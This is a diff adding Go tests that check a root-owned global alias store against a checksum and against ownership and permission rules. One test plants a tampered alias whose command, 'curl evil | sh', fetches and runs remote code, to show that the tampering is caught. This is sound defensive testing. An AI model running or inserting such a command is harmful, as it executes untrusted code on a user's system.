@@ -0,0 +1,109 @@
+package alias
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestCheckGlobalStore(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("the global store must be owned by root")
+	}
+	data := []byte(`[{"name": "ll", "command": "ls -l"}]`)
+	tests := []struct {
+		name     string
+		setup    func(t *testing.T, dir, path string)
+		verified bool
+		err      string // Start of the wanted UnverifiedStoreError, with {dir} and {path} filled in.
+	}{
+		{"no checksum", func(t *testing.T, dir, path string) {}, false, ""},
+		{"checksum matches", func(t *testing.T, dir, path string) {
+			if err := writeChecksum(path, data); err != nil {
+				t.Fatal(err)
+			}
+		}, true, ""},
+		{"checksum in upper case", func(t *testing.T, dir, path string) {
+			writeChecksum(path, data)
+			content, _ := os.ReadFile(ChecksumPath(path))
+			os.WriteFile(ChecksumPath(path), []byte(strings.ToUpper(string(content[:64]))+"\n"), 0644)
+		}, true, ""},
+		{"store changed", func(t *testing.T, dir, path string) {
+			writeChecksum(path, []byte("[]"))
+		}, false, "{path} does not match its checksum"},
+		{"malformed checksum", func(t *testing.T, dir, path string) {
+			os.WriteFile(ChecksumPath(path), []byte("abc  aliases.json\n"), 0644)
+		}, false, "checksum file {path}.sha256 is malformed"},
+		{"world-writable store", func(t *testing.T, dir, path string) {
+			os.Chmod(path, 0666)
+		}, false, "{path} is writable by every user"},
+		{"world-writable directory", func(t *testing.T, dir, path string) {
+			os.Chmod(dir, 0777)
+		}, false, "{dir} is writable by every user"},
+		{"store not owned by root", func(t *testing.T, dir, path string) {
+			if err := os.Chown(path, 1000, 1000); err != nil {
+				t.Skip(err)
+			}
+		}, false, "{path} is owned by uid 1000"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := filepath.Join(t.TempDir(), "global")
+			if err := os.Mkdir(dir, 0755); err != nil {
+				t.Fatal(err)
+			}
+			path := filepath.Join(dir, ALIASES_FILE)
+			if err := os.WriteFile(path, data, 0644); err != nil {
+				t.Fatal(err)
+			}
+			tt.setup(t, dir, path)
+
+			verified, err := CheckGlobalStore(path, data)
+			want := strings.NewReplacer("{dir}", dir, "{path}", path).Replace(tt.err)
+			var unverifiedErr *UnverifiedStoreError
+			switch {
+			case want == "" && err != nil:
+				t.Fatalf("CheckGlobalStore: %v", err)
+			case want != "" && (!errors.As(err, &unverifiedErr) || !strings.HasPrefix(err.Error(), want)):
+				t.Fatalf("CheckGlobalStore: err = %v, want %q", err, want)
+			}
+			if verified != tt.verified {
+				t.Errorf("verified = %v, want %v", verified, tt.verified)
+			}
+		})
+	}
+}
+
+func TestGlobalStoreChecksumIsWrittenAndChecked(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("the global store must be owned by root")
+	}
+	dir := t.TempDir()
+	global := filepath.Join(dir, "global")
+	var userAliases, packAliases []Alias
+	globalAliases := []Alias{{Name: "ll", Command: "ls -l", Level: "global"}}
+	pm := NewPersistManager(filepath.Join(dir, "user"), global, &userAliases, &globalAliases, &packAliases)
+	if err := pm.SaveAliases("global", "%v", "%v", "%v"); err != nil {
+		t.Fatal(err)
+	}
+	path := StorePath(global)
+	data, _ := os.ReadFile(path)
+	if verified, err := CheckGlobalStore(path, data); !verified || err != nil {
+		t.Fatalf("CheckGlobalStore after save = %v, %v", verified, err)
+	}
+
+	// An edit made outside qq keeps the store from loading and from being saved over.
+	if err := os.WriteFile(path, []byte(`[{"name": "ll", "command": "curl evil | sh"}]`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	globalAliases = nil
+	pm.LoadAliases()
+	if len(globalAliases) != 0 || pm.GlobalStoreError() == nil {
+		t.Fatalf("loaded %+v, GlobalStoreError = %v", globalAliases, pm.GlobalStoreError())
+	}
+	if err := pm.SaveAliases("global", "%v", "%v", "%v"); err == nil {
+		t.Error("SaveAliases wrote over a store that failed verification")
+	}
+}